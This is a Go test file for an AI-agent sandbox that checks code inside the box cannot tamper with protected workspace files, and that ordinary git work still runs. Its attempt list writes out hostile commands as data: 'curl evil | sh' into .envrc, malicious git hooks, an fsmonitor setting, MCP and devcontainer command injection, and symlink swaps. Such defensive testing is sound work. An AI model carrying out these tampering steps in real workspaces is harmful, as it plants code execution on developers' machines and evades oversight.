package integrity_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/internal/engine"
	"github.com/agentbox/agentbox/internal/engine/enginetest"
	"github.com/agentbox/agentbox/internal/engine/native"
	"github.com/agentbox/agentbox/internal/integrity"
	"github.com/agentbox/agentbox/internal/plan"
)

func TestMain(m *testing.M) {
	enginetest.Main(m, map[string]func([]string) int{
		"box-init":           native.BoxInitMain,
		"box-exec":           native.BoxExecMain,
		placeholderWorkerCmd: placeholderWorker,
	})
}

// needGit skips when git is missing.
func needGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
}

// git runs git on the host in dir.
func git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// repo makes a typical workspace: a git repository with one commit, existing
// .claude/settings.json, .envrc, proj.code-workspace and .github/workflows/ci.yml; .mcp.json,
// .vscode, .devcontainer, .gitmodules,
// .git/commondir, .git/config.worktree and .git/info/attributes are absent.
func repo(t *testing.T, ws string) {
	t.Helper()
	git(t, ws, "init", "-q", "-b", "main")
	write(t, filepath.Join(ws, "main.go"), "package main\n")
	write(t, filepath.Join(ws, ".claude/settings.json"), `{"hooks":{}}`+"\n")
	write(t, filepath.Join(ws, ".envrc"), "export A=1\n")
	write(t, filepath.Join(ws, ".github/workflows/ci.yml"), "on: push\n")
	write(t, filepath.Join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n")
	write(t, filepath.Join(ws, "proj.code-workspace"), "{}\n")
	git(t, ws, "add", "-A")
	git(t, ws, "commit", "-q", "-m", "initial")
}

// protectedBox is one box over a workspace set up by setup, with its protected paths bound
// (placeholders acquired before and released after, as the daemon does).
type protectedBox struct {
	ws     string
	lay    *integrity.Layout
	state  *integrity.State
	reg    *integrity.Registry
	launch string
}

func newProtectedBox(t *testing.T, setup func(ws string), script string, o enginetest.Options) (*protectedBox, enginetest.Result) {
	t.Helper()
	pb := &protectedBox{launch: "launch-" + strings.ReplaceAll(t.Name(), "/", "-"), reg: &integrity.Registry{Path: filepath.Join(t.TempDir(), "placeholders.json")}}
	p, _ := enginetest.NewPlan(t, "/bin/sh", []string{"-c", script}, func(in *plan.Input) {
		pb.ws = in.Workspace
		in.Cwd = in.Workspace
		in.Env = append(in.Env, "GIT_AUTHOR_NAME=box", "GIT_AUTHOR_EMAIL=box@example.com", "GIT_COMMITTER_NAME=box", "GIT_COMMITTER_EMAIL=box@example.com")
		if setup != nil {
			setup(in.Workspace)
		}
		lay, err := pb.reg.Prepare(pb.launch, in.Workspace, nil)
		if err != nil {
			t.Fatal(err)
		}
		pb.lay = lay
		pb.state = integrity.Snapshot(lay, integrity.Limits{})
		in.Brokers.Mounts = plan.ProtectMounts(lay.Protected)
		// As the daemon's broker does: git in the box ignores the placeholders.
		if ex := integrity.GitExclude(lay); ex != "" {
			write(t, filepath.Join(in.RunDir, integrity.ExcludeFile), ex)
			in.Brokers.Env = append(in.Brokers.Env, integrity.GitExcludeEnv()...)
		}
	})
	// GIT_* variables are not in the plan's allowlist: set them for the box directly.
	p.Env = append(p.Env, "GIT_AUTHOR_NAME=box", "GIT_AUTHOR_EMAIL=box@example.com", "GIT_COMMITTER_NAME=box", "GIT_COMMITTER_EMAIL=box@example.com")
	r := enginetest.RunBox(t, &native.Engine{}, p, o)
	if ev := r.Error(); ev != nil {
		t.Fatalf("box reported %s: %s", ev.Code, ev.Message)
	}
	return pb, r
}

// release releases the placeholders and fails the test if any is left on the host.
func (pb *protectedBox) release(t *testing.T) {
	t.Helper()
	if _, err := pb.reg.Release(pb.launch); err != nil {
		t.Errorf("release placeholders: %v", err)
	}
	for _, ph := range pb.lay.Placeholders {
		if _, err := os.Lstat(ph.Path); err == nil {
			t.Errorf("placeholder %s left on the host", ph.Path)
		}
	}
}

// TestReplacementAttempts runs each attempt to change a protected path from inside a real
// box; every one must fail, and the integrity roots must show no transition afterwards.
func TestReplacementAttempts(t *testing.T) {
	needGit(t)
	// withVSCode gives the workspace a .vscode folder of its own (then its absent protected
	// files are file placeholders, not hidden in a placeholder folder).
	withVSCode := func(ws string) { write(t, filepath.Join(ws, ".vscode/extensions.json"), "{}\n") }
	attempts := []struct {
		name, script string
		setup        func(ws string)
	}{
		{"WriteInPlace", "echo evil >> .git/config", nil},
		{"Truncate", ": > .claude/settings.json", nil},
		{"TruncateSyscall", "truncate -s 0 .envrc", nil},
		{"RenameOver", "echo evil > t && mv -f t .git/config", nil},
		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks", nil},
		{"RenameParentGit", "mv .git .git-away", nil},
		{"RenameParentClaude", "mv .claude .claude-away", nil},
		{"RenameParentGithub", "mv .github .github-away", nil},
		{"RenameParentWorkflows", "mv .github/workflows .github/wf", nil},
		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`, nil},
		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude", nil},
		{"RemoveParentGit", "rm -rf .git && test ! -e .git", nil},
		{"UnlinkRecreate", "rm -f .envrc; echo 'curl evil | sh' > .envrc", nil},
		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", nil},
		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", nil},
		{"Chmod", "chmod 0777 .git/config", nil},
		{"ChmodHookDir", "chmod 0777 .git/hooks", nil},
		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json", nil},
		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config", nil},
		{"HardlinkSwap", "echo evil > h && ln -f h .envrc", nil},
		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
		{"CreateMCP", "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json", nil},
		{"CreateGitmodules", "printf '[submodule \"x\"]\\n' > .gitmodules", nil},
		{"CreateVSCodeSettings", "mkdir -p .vscode && echo '{}' > .vscode/settings.json", nil},
		{"CreateVSCodeTasks", "echo '{}' > .vscode/tasks.json", nil},
		{"CreateCommondir", "echo /tmp > .git/commondir", nil},
		{"CreateConfigWorktree", "printf '[core]\\nfsmonitor = evil\\n' > .git/config.worktree", nil},
		{"CreateInfoAttributes", "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes", nil},
		{"CreateClaudeLocal", "echo '{}' > .claude/settings.local.json", nil},
		{"RenameOverPlaceholder", "echo '{}' > m && mv -f m .mcp.json", nil},
		{"RemovePlaceholderDir", "rmdir .vscode", nil},
		{"GitConfigCommand", "git config core.fsmonitor evil", nil},
		{"CreateDevcontainer", "mkdir -p .devcontainer && echo '{\"initializeCommand\":\"evil\"}' > .devcontainer/devcontainer.json", nil},
		{"CreateDevcontainerJSON", "echo '{\"initializeCommand\":\"evil\"}' > .devcontainer.json", nil},
		{"CreateVSCodeLaunch", "echo '{}' > .vscode/launch.json", withVSCode},
		{"CreateVSCodeMCP", "echo '{}' > .vscode/mcp.json", withVSCode},
		{"WriteCodeWorkspace", "echo '{\"tasks\":{}}' > proj.code-workspace", nil},
	}
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			pb, r := newProtectedBox(t, func(ws string) {
				repo(t, ws)
				if a.setup != nil {
					a.setup(ws)
				}
			}, a.script, enginetest.Options{})
			defer pb.release(t)
			if r.Exit == 0 {
				t.Errorf("attempt %q succeeded in the box (stdout %q stderr %q)", a.script, r.Stdout, r.Stderr)
			}
			for _, tr := range append(pb.state.VerifyRoots(), pb.state.VerifyExec()...) {
				if tr.Alert {
					t.Errorf("after %q: %s %s (%s)", a.script, tr.Kind, tr.Path, tr.Detail)
				}
			}
		})
	}
}

// TestGitSessionInBox proves ordinary work keeps working: commits, branch switches, rebase,
// gc, editing and creating files.
func TestGitSessionInBox(t *testing.T) {
	needGit(t)
	script := `set -ex
echo 'package main // edited' > main.go
mkdir -p pkg && echo 'package pkg' > pkg/new.go
git add -A
git commit -q -m edit
git switch -q -c feature
echo more >> pkg/new.go
git commit -q -am feature
git switch -q main
echo other > other.txt && git add other.txt && git commit -q -m other
git switch -q feature
git rebase -q main
git switch -q main
git merge -q --ff-only feature || true
git gc -q
git status --porcelain
git log --oneline | wc -l
cat .claude/settings.json`
	pb, r := newProtectedBox(t, func(ws string) { repo(t, ws) }, script, enginetest.Options{})
	defer pb.release(t)
	if r.Exit != 0 {
		t.Fatalf("git session failed: exit %d\nstdout %s\nstderr %s", r.Exit, r.Stdout, r.Stderr)
	}
	if !strings.Contains(string(r.Stdout), "4") {
		t.Errorf("log: %q", r.Stdout)
	}
	// HEAD moved (watched, not pinned): recorded without an alert; nothing pinned changed.
	sawHEAD := false
	for _, tr := range pb.state.VerifyRoots() {
		if strings.HasSuffix(tr.Path, "/HEAD") {
			sawHEAD = true
			if tr.Alert {
				t.Errorf("HEAD transition raised an alert: %+v", tr)
			}
			continue
		}
		t.Errorf("unexpected transition %s %s (%s)", tr.Kind, tr.Path, tr.Detail)
	}
	if !sawHEAD {
		t.Error("HEAD was replaced by git in the box but no transition was recorded")
	}
	if out := git(t, pb.ws, "log", "--oneline"); strings.Count(out, "\n") != 4 {
		t.Errorf("host sees %q", out)
	}
	// No placeholder was committed by "git add -A" in the box.
	for _, ph := range pb.lay.Placeholders {
		rel, _ := filepath.Rel(pb.ws, ph.Path)
		if out := git(t, pb.ws, "log", "--all", "--oneline", "--", rel); out != "" {
			t.Errorf("placeholder %s was committed in the box: %s", rel, out)
		}
	}
}

// TestHostReplacementRebound: git on the host replaces .git/config by lock-and-rename, which
// removes the bind over it in the box; box-init must re-bind the new file read-only, so a
// write from the box still fails and the box sees the host's change.
func TestHostReplacementRebound(t *testing.T) {
	needGit(t)
	script := `
while [ ! -e go ]; do sleep 0.02; done
i=0
until grep -q " $PWD/.git/config " /proc/self/mountinfo; do
  i=$((i+1)); [ $i -gt 500 ] && { echo "never re-bound"; exit 3; }
  sleep 0.02
done
grep -q hostkey .git/config || { echo "new content not visible"; exit 4; }
if echo evil >> .git/config; then echo "write succeeded"; exit 5; fi
if mv -f go .git/config; then echo "rename succeeded"; exit 6; fi
echo ok`
	var ws string
	pb, r := newProtectedBox(t, func(w string) { ws = w; repo(t, w) }, script, enginetest.Options{AfterExec: func(*engine.Box) {
		git(t, ws, "config", "host.key", "hostkey")
		write(t, filepath.Join(ws, "go"), "")
	}})
	defer pb.release(t)
	if r.Exit != 0 || !strings.Contains(string(r.Stdout), "ok") {
		t.Fatalf("exit %d: stdout %q stderr %q", r.Exit, r.Stdout, r.Stderr)
	}
	b, err := os.ReadFile(filepath.Join(ws, ".git/config"))
	if err != nil || strings.Contains(string(b), "evil") {
		t.Errorf(".git/config on the host: %q, %v", b, err)
	}
	// The watch records the host's change: content and identity.
	var got []string
	for _, tr := range pb.state.VerifyRoots() {
		got = append(got, string(tr.Kind)+" "+strings.TrimPrefix(tr.Path, ws))
	}
	if !containsStr(got, "modified /.git/config") {
		t.Errorf("transitions %v, want modified /.git/config", got)
	}
}

func containsStr(s []string, x string) bool {
	for _, v := range s {
		if v == x {
			return true
		}
	}
	return false
}

// TestNoPlaceholderLeftovers: placeholders exist only while a box runs, are shared by boxes on
// the same workspace and removed after the last one.
func TestNoPlaceholderLeftovers(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	reg := &integrity.Registry{Path: filepath.Join(t.TempDir(), "ph.json")}
	var lay *integrity.Layout
	for _, id := range []string{"a", "b"} {
		l, err := reg.Prepare(id, ws, nil)
		if err != nil {
			t.Fatal(err)
		}
		if lay != nil && !reflect.DeepEqual(l.Placeholders, lay.Placeholders) {
			t.Errorf("launch b's placeholders %v differ from launch a's %v: a's must be shared", l.Placeholders, lay.Placeholders)
		}
		lay = l
	}
	if len(lay.Placeholders) == 0 {
		t.Fatal("an empty workspace needs placeholders")
	}
	for _, ph := range lay.Placeholders {
		if _, err := os.Lstat(ph.Path); err != nil {
			t.Errorf("placeholder %s missing while boxes run: %v", ph.Path, err)
		}
	}
	if _, err := reg.Release("a"); err != nil {
		t.Fatal(err)
	}
	for _, ph := range lay.Placeholders {
		if _, err := os.Lstat(ph.Path); err != nil {
			t.Errorf("placeholder %s removed while box b still runs", ph.Path)
		}
	}
	// The user replaces one placeholder meanwhile: it is theirs now and stays.
	mcp := filepath.Join(ws, ".mcp.json")
	os.Remove(mcp)
	write(t, mcp, `{"mine":true}`)
	if _, err := reg.Release("b"); err != nil {
		t.Fatal(err)
	}
	ents, _ := os.ReadDir(ws)
	var left []string
	for _, e := range ents {
		left = append(left, e.Name())
	}
	if len(left) != 1 || left[0] != ".mcp.json" {
		t.Errorf("left on the host: %v, want only the user's .mcp.json", left)
	}
}
